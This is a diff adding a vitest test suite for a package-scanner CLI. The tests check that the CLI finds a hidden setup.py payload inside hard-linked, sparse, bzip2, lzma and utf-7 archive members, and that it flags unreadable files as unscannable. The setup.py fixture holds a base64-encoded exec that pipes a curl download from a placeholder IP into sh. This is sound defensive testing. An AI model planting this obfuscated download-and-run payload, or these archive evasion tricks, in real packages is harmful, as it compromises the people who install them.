@@ -1,0 +1,172 @@
+// Issue 10, items 2 and 13 through the bundled CLI (`node cli.js inspect <file> --json`, built from src/
+// into a temp dir as the release is): a payload in a setup.py that is a tar hard link, a GNU sparse
+// member, a bzip2 or lzma zip entry, or utf-7 source is found at its file:line; what cannot be read
+// is a gap and the verdict is unscannable.
+import { execFileSync } from 'node:child_process';
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { makeTarGz, methodZip, paxMember, rawTarMember, tarOfMembers } from './hostile.js';
+import { gzipSync } from 'node:zlib';
+
+const root = mkdtempSync(join(tmpdir(), 'pmg-dist-inspect-'));
+const out = join(root, 'dist');
+afterAll(() => rmSync(root, { recursive: true, force: true }));
+beforeAll(() => {
+  execFileSync(process.execPath, ['build.mjs', out], { stdio: 'pipe' });
+}, 300_000);
+
+// The README's example payload: exec of base64-decoded code that downloads and runs a script.
+const SETUP = [
+  '# setup for p',
+  'import base64',
+  'from setuptools import setup',
+  '',
+  'setup(name="p", version="1.0")',
+  'exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy94LnNoIHwgc2giKQo="))',
+  '',
+].join('\n');
+const PAYLOAD_LINE = 6;
+const PKG_INFO = 'Metadata-Version: 2.1\nName: p\nVersion: 1.0\n';
+
+interface Inspected {
+  status: string;
+  verdict: string;
+  evidence: { rule: string; path: string; line: number }[];
+  gaps?: { stage: string; path?: string; reason: string }[];
+}
+
+function inspect(name: string, bytes: Buffer): Inspected {
+  const file = join(root, name);
+  writeFileSync(file, bytes);
+  let stdout: string;
+  try {
+    stdout = execFileSync(process.execPath, [join(out, 'cli.js'), 'inspect', file, '--json'], {
+      encoding: 'utf8',
+      maxBuffer: 64 * 1024 * 1024,
+    });
+  } catch (err) {
+    // Exit 1 for a malicious or unscannable verdict: the JSON line is still printed.
+    stdout = (err as { stdout: string }).stdout;
+  }
+  return JSON.parse(stdout.trim().split('\n').pop()!);
+}
+
+const utf7 = (s: string) =>
+  s === '' ? '' : `+${Buffer.from(s, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`;
+
+describe('inspect through dist/cli.js', () => {
+  it.each([
+    [
+      'a setup.py stored as a tar hard link',
+      'hardlink-1.0.tar.gz',
+      () =>
+        makeTarGz([
+          { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
+          { path: 'p-1.0/p/data.py', data: SETUP },
+          { path: 'p-1.0/setup.py', type: 'hardlink', linkTarget: 'p-1.0/p/data.py' },
+        ]),
+    ],
+    [
+      'a setup.py stored as a GNU sparse member (pax 0.1)',
+      'sparse-1.0.tar.gz',
+      () =>
+        gzipSync(
+          tarOfMembers(
+            rawTarMember({ name: 'p-1.0/PKG-INFO', size: PKG_INFO.length, type: '0', data: PKG_INFO }),
+            paxMember([
+              ['GNU.sparse.size', String(SETUP.length)],
+              ['GNU.sparse.map', `0,${SETUP.length}`],
+              ['GNU.sparse.name', 'p-1.0/setup.py'],
+            ]),
+            rawTarMember({
+              name: 'p-1.0/GNUSparseFile.0/setup.py',
+              size: SETUP.length,
+              type: '0',
+              data: SETUP,
+            }),
+          ),
+        ),
+    ],
+    [
+      'a setup.py compressed with bzip2 in a zip sdist',
+      'bzip2-1.0.zip',
+      () =>
+        methodZip([
+          { name: 'p-1.0/PKG-INFO', data: PKG_INFO, method: 8 },
+          { name: 'p-1.0/setup.py', data: SETUP, method: 12 },
+        ]),
+    ],
+    [
+      'a setup.py compressed with lzma in a zip sdist',
+      'lzma-1.0.zip',
+      () =>
+        methodZip([
+          { name: 'p-1.0/PKG-INFO', data: PKG_INFO, method: 0 },
+          { name: 'p-1.0/setup.py', data: SETUP, method: 14 },
+        ]),
+    ],
+    [
+      'a setup.py written in utf-7',
+      'utf7-1.0.tar.gz',
+      () =>
+        makeTarGz([
+          { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
+          {
+            path: 'p-1.0/setup.py',
+            data: `# -*- coding: utf-7 -*-\n${SETUP.split('\n').slice(1).map(utf7).join('\n')}`,
+          },
+        ]),
+    ],
+  ])('finds the payload in %s at setup.py:line', (_what, name, build) => {
+    const result = inspect(name, build());
+    expect(result.status).toBe('ok');
+    expect(result.gaps).toBeUndefined();
+    const hits = result.evidence.filter((e) => e.path === 'p-1.0/setup.py');
+    // The utf-7 file keeps its lines: its declaration replaces the first (comment) line.
+    expect(hits.map((e) => e.line)).toContain(PAYLOAD_LINE);
+    expect(hits.map((e) => e.rule)).toContain('exec-decoded-payload');
+    expect(result.verdict).not.toBe('benign');
+  });
+
+  it('reports what it cannot read as a gap, and the verdict as unscannable', () => {
+    const undecodable = inspect(
+      'ebcdic-1.0.tar.gz',
+      makeTarGz([
+        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
+        { path: 'p-1.0/setup.py', data: '# coding: cp037\n\x89\x94\x97\x96\x99\xa3' },
+      ]),
+    );
+    expect(undecodable).toMatchObject({ status: 'ok', verdict: 'unscannable' });
+    expect(undecodable.gaps).toContainEqual(
+      expect.objectContaining({ stage: 'decode', path: 'p-1.0/setup.py' }),
+    );
+
+    const zstd = inspect(
+      'zstd-1.0.zip',
+      methodZip([
+        { name: 'p-1.0/PKG-INFO', data: PKG_INFO, method: 8 },
+        { name: 'p-1.0/setup.py', data: SETUP, method: 93 },
+      ]),
+    );
+    expect(zstd).toMatchObject({ status: 'ok', verdict: 'unscannable' });
+    expect(zstd.gaps).toContainEqual(
+      expect.objectContaining({
+        stage: 'archive',
+        path: 'p-1.0/setup.py',
+        reason: 'zip compression method 93, zstandard is not supported by the reader',
+      }),
+    );
+
+    const outside = inspect(
+      'outside-1.0.tar.gz',
+      makeTarGz([
+        { path: 'p-1.0/PKG-INFO', data: PKG_INFO },
+        { path: 'p-1.0/setup.py', type: 'symlink', linkTarget: '/tmp/setup.py' },
+      ]),
+    );
+    expect(outside).toMatchObject({ status: 'ok', verdict: 'unscannable' });
+    expect(outside.gaps).toContainEqual(expect.objectContaining({ path: 'p-1.0/setup.py' }));
+  });
+});
